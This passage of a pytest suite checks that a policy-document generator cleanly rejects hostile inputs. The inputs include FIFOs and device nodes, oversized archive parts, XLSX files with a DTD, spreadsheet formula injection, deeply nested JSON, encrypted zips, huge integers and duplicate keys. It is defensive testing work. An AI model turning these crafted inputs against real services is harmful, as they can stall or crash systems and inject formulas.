    Attack("pack-fifo", lambda tmp, pack: ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"),
                                           "--as-of", AS_OF, "--pack", str(_fifo_pack(tmp, pack))],
           words=("more.yaml", "not a regular file"), seconds=20),
    Attack("lint-pack-fifo", lambda tmp, pack: ["lint", "--pack", str(_fifo_pack(tmp, pack))],
           words=("more.yaml", "not a regular file"), seconds=20),
    Attack("pack-device", lambda tmp, pack: ["generate", str(HOSTILE / "valid.yaml"), "-o",
                                             str(tmp / "policy.docx"), "--as-of", AS_OF, "--pack",
                                             str(_device_pack(tmp, pack))],
           words=("zero.yaml", "not a regular file"), seconds=20, root_only=True),
    Attack("profile-fifo", lambda tmp, pack: (os.mkfifo(tmp / "answers.yaml"), [
        "generate", str(tmp / "answers.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF])[1],
        words=("answers.yaml", "not a regular file"), seconds=20),
    Attack("output-fifo", _fifo_output, words=("policy.docx", "not a regular file"), seconds=20,
           check=_still_special),
    Attack("output-socket", _socket_output, words=("policy.docx", "not a regular file"), check=_still_special),
    Attack("output-device", _device_output, words=("policy.docx", "not a regular file"), check=_still_special,
           root_only=True),
    Attack("batch-output-fifo", lambda tmp, pack: (os.mkfifo(tmp / "out"), _batch_csv([ROW | {
        "organisation.name": "Membre"}])(tmp, pack))[1], words=("out", "output folder"), seconds=20),
    # 4. spreadsheets
    Attack("report-formulas", _batch_csv([{**ROW, "organisation.name": f} for f in FORMULAS]), exit=0,
           check=_report_neutralised),
    Attack("xlsx-2GB-part", _xlsx_big_part, words=("members.xlsx", "too large")),
    Attack("xlsx-dtd", _xlsx_dtd, words=("members.xlsx", "DTD")),
    Attack("csv-cell-200k", _batch_csv([{**ROW, "organisation.name": "A" * 200_000}]),
           words=("members.csv", "line 2", "too long")),
    # 5. values
    Attack("long-french-name", _long_french_name, exit=0, check=_written),
    Attack("date-feb-30", _gen_profile(replace=("2026-12-01", "2026-02-30")),
           words=("policy.effective_date", "2026-02-30")),
    Attack("date-month-13", _gen_profile(replace=("2026-12-01", "2026-13-01")),
           words=("policy.effective_date", "2026-13-01")),
    Attack("date-year-9999", _gen_profile(replace=("2026-12-01", "9999-12-01")),
           words=("policy.effective_date", "9999")),
    Attack("date-year-1999", _gen_profile(replace=("2026-12-01", "1999-12-01")),
           words=("policy.effective_date", "1999")),
    Attack("huge-integer", _gen_profile(replace=("employees: 4", "employees: " + "9" * 5000)),
           words=("answers.yaml", "digits")),
    Attack("huge-hex-integer", _gen_profile(replace=("employees: 4", "employees: 0x" + "f" * 5000)),
           words=("answers.yaml", "digits")),
    Attack("huge-integer-json", lambda tmp, pack: (
        (tmp / "answers.json").write_text('{"organisation": {"employees": ' + "9" * 5000 + "}}"),
        ["generate", str(tmp / "answers.json"), "-o", str(tmp / "policy.docx")])[1],
        words=("answers.json", "digits")),
    Attack("duplicate-key", _gen_profile(replace=("employees: 4", "employees: 9\n  employees: 900000")),
           words=("answers.yaml", "employees", "duplicate", "lines 7 and 8")),
    Attack("duplicate-key-json", lambda tmp, pack: (
        (tmp / "answers.json").write_text('{"schema_version": 1, "schema_version": 1}'),
        ["generate", str(tmp / "answers.json"), "-o", str(tmp / "policy.docx")])[1],
        words=("answers.json", "schema_version", "duplicate")),
    # 6. odd packs
    Attack("zip-dot-entry", _gen_zip(_zip_dot_entry), words=("pack.zip", "'.'")),
    Attack("zip-encrypted", _gen_zip(_zip_encrypted), words=("pack.zip", "encrypted")),
    Attack("zip-deflate64", _gen_zip(_zip_deflate64), words=("pack.zip", "compression")),
    Attack("terms-bad-types", _pack_file("policy_templates/terms.yaml", "staff: [1, 2]\n"),
           words=("terms.yaml", "staff")),
    Attack("outline-bad-types", lambda tmp, pack: _overlay(tmp, "policy_templates/outline.yaml", "add: 5\n"),
           words=("outline.yaml", "add")),
    Attack("overlay-terms-bad-types", lambda tmp, pack: _overlay(tmp, "policy_templates/terms.yaml", "staff: 5\n"),
           words=("terms.yaml", "staff")),
    Attack("lint-unreadable-pack", lambda tmp, pack: ["lint", "--pack", str(tmp / "nowhere")],
           words=("nowhere", "not found")),
    # 7. uploaded policies
    Attack("regenerate-deep-json", _deep_payload, words=("old.docx",)),
    Attack("regenerate-encrypted", lambda tmp, pack: _odd_upload(tmp, pack, flag=0x1), words=("old.docx",)),
    Attack("regenerate-deflate64", lambda tmp, pack: _odd_upload(tmp, pack, method=9), words=("old.docx",)),
    # only the embedded answers are read from an uploaded policy, within their declared size: the 3 GB part
    # is never inflated
    Attack("regenerate-3GB-part", _big_docx_upload, exit=0, check=_written),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_attack_is_held(attack: Attack, tmp_path: Path, mini_pack: Path):
    if attack.root_only and os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    work = tmp_path / "work"
    work.mkdir()
    args = attack.build(work, mini_pack)
    result, seconds = run_capped(args, attack.seconds + float(os.environ.get("HOSTILE_GRACE", 30)))
    assert result is not None, f"still running after {seconds:.0f} s"
    err = result.stderr + result.stdout
    assert seconds < attack.seconds, f"took {seconds:.1f} s: {err}"
    assert result.returncode == attack.exit, err
    assert "Traceback" not in err and "internal error" not in err, err
    for word in attack.words:
        assert word.lower() in err.lower(), f"{word!r} not in: {err}"
    stray = [str(p) for p in work.rglob("*") if p.name.endswith(".tmp")]
    assert stray == []
    if attack.exit == 2:
        assert not (work / "policy.docx").is_file() or (work / "policy.docx").stat().st_size == 0
    if attack.check:
        attack.check(work, result)


# ------------------------------------------------------------------- the wizard: dates from an answers file


@pytest.mark.parametrize("day,accepted", [("2045-06-01", True), ("2001-01-01", True), ("1999-12-31", False),
                                          ("2100-01-01", False)])
def test_wizard_resumes_any_date_the_contract_accepts_and_refuses_the_others(day: str, accepted: bool):
    """A date outside the wizard's calendar left it stuck with no buttons: the calendar and the contract now
    have the same range, and a date outside it is refused on upload, naming the field."""
    pytest.importorskip("streamlit")
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.context["locale"] = "fr-CA"  # the interface follows the browser's language
    at.run()
    text = (HOSTILE / "valid.yaml").read_text().replace("2026-12-01", day)
    at.file_uploader[0].set_value(("answers.yaml", text.encode(), "application/x-yaml")).run()
    assert not at.exception, at.exception
    assert at.button(key="nav_back")  # the page is whole: its buttons are there (a resumed file opens the review)
    if accepted:
        assert at.session_state["answers"]["policy"]["effective_date"].isoformat() == day
    else:
        assert any("Date d'entrée en vigueur" in e.value and "2000-01-01" in e.value for e in at.error)
        assert at.session_state["answers"]["organisation"]["name"] != "Compagnie Hostile"  # nothing taken
